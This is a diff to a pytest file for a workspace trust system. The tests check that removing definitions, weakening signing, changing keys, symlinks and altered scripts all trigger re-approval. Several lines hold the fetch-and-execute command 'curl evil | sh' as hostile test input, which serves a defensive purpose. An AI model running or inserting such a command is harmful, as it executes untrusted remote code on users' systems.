@@ -3,13 +3,17 @@
 from __future__ import annotations
 
 import json
+import shutil
+import subprocess
 from pathlib import Path
 
 import pytest
 
+from jobs.signing import fingerprint, public_key
 from jobs.trust import NotTrusted, TrustFile, definitions_of
 from jobs.workspace import Workspace, init_workspace, open_workspace
 from store.clock import CountingTokens, FakeClock
+from store.errors import WrongInput
 
 HOSTILE = "targets:\n  - {nome: producao, smoke: [sh, -c, 'curl evil | sh']}\n"
 
@@ -78,6 +82,92 @@ def test_taking_a_definition_away_needs_no_approval(tmp_path: Path, file: TrustF
     approve(file, workspace)
     workspace.paths.config.write_text("id: t1\n")
     assert check(file, open_workspace(workspace.paths.root))
+
+
+@pytest.mark.parametrize("name", ["actors.yaml", "contracts.yaml", "policy.yaml"])
+def test_taking_away_what_holds_something_back_is_asked_about(
+    tmp_path: Path, file: TrustFile, name: str
+) -> None:
+    workspace = shop(tmp_path)
+    (workspace.paths.root / name).write_text("x: 1")
+    approve(file, workspace)
+    (workspace.paths.root / name).rename(tmp_path / "gone")
+    seen = file.check(workspace.paths, workspace.config)
+    assert not seen.trusted
+    assert "-x: 1" in seen.difference
+    with pytest.raises(NotTrusted, match="it defines less than you approved"):
+        seen.require(workspace.paths.root)
+    approve(file, workspace)
+    assert check(file, workspace)
+
+
+@pytest.mark.parametrize("weaker", ["", "signing: {required: false}\n", "signing: {key: /k.pem}\n"])
+def test_signing_less_is_asked_about(tmp_path: Path, file: TrustFile, weaker: str) -> None:
+    workspace = shop(tmp_path, "signing: {required: true, key: /k.pem}\n")
+    assert not check(file, workspace)
+    approve(file, workspace)
+    assert check(file, workspace)
+    workspace.paths.config.write_text("id: t1\n" + weaker)
+    assert not check(file, open_workspace(workspace.paths.root))
+
+
+@pytest.mark.skipif(shutil.which("openssl") is None, reason="signs with openssl")
+def test_another_signing_key_in_the_same_place_is_asked_about(tmp_path: Path, file: TrustFile) -> None:
+    key = tmp_path / "key.pem"
+    words = ["openssl", "genpkey", "-algorithm", "ed25519", "-out", str(key)]
+    subprocess.run(words, check=True, capture_output=True)
+    key.chmod(0o600)
+    workspace = shop(tmp_path, f"signing: {{key: {key}}}\n")
+    (shown,) = definitions_of(workspace.paths, workspace.config)
+    assert json.loads(shown.text)["impressao"] == fingerprint(public_key(key, tmp_path))
+    approve(file, workspace)
+    assert check(file, workspace)
+    subprocess.run(words, check=True, capture_output=True)
+    assert not check(file, workspace)
+
+
+@pytest.mark.parametrize("linked", ["tools", "tools/sub", "tools/look.sh"])
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("actors", "Eco: {comandos: {a: {argv: [sh, '{workspace}/tools/look.sh'], leitura: [tools]}}}"),
+        (
+            "capabilities",
+            "capacidades: {a: {descricao: a, sonda: [sh, tools/look.sh], instalar: [x, tools]}}",
+        ),
+    ],
+)
+def test_what_a_link_leads_to_cannot_be_approved(
+    tmp_path: Path, file: TrustFile, linked: str, name: str, text: str
+) -> None:
+    workspace = shop(tmp_path)
+    root = workspace.paths.root
+    (root / "tools" / "sub").mkdir(parents=True)
+    (root / "tools" / "look.sh").write_text("true")
+    (root / f"{name}.yaml").write_text(text)
+    (root / linked).rename(root / "real")
+    (root / linked).symlink_to(root / "real")
+    seen = file.check(workspace.paths, workspace.config)
+    with pytest.raises(WrongInput, match=r"it can't be approved: .* link"):
+        file.approve(workspace.paths, workspace.config, FakeClock(), seen)
+    assert not check(file, workspace)
+
+
+def test_a_script_that_is_named_relatively_is_approved_with_its_content(
+    tmp_path: Path, file: TrustFile
+) -> None:
+    workspace = shop(tmp_path)
+    root = workspace.paths.root
+    text = "capacidades: {a: {descricao: a, sonda: [sh, big.sh], instalar: [test, -e, made]}}"
+    (root / "capabilities.yaml").write_text(text)
+    (root / "big.sh").write_text("true")
+    approve(file, workspace)
+    (root / "made").touch()
+    assert check(file, workspace), "what is only looked at may come"
+    (root / "big.sh").write_text("curl evil | sh")
+    seen = file.check(workspace.paths, workspace.config)
+    assert not seen.trusted
+    assert "+curl evil | sh" in seen.difference
 
 
 def test_a_copy_elsewhere_or_with_another_id_is_not_trusted(tmp_path: Path, file: TrustFile) -> None:
